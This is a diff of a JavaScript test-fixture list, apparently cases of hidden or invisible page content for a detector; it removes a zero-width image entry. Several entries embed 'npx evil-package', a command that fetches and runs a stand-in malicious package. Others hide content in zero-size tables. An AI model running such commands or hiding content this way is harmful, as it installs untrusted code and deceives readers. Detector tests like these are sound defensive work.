@@ -235,7 +235,6 @@ const unseen = [
   '[**&nbsp;**](https://acme-site.dev)',
   `<table className="max-w-0"><tbody><tr><td>${order}</td></tr></tbody></table>`,
   `<table><tbody><tr><td style={{ height: "1px" }}>${order}</td></tr></tbody></table>`,
-  '<img src="/images/a.png" width="0" />',
   '<pre><code>npx evil-package</code></pre>',
   '<CodeBlock language="bash">npx evil-package</CodeBlock>',
   '<GitHub.Repo repo="evil/x" />',
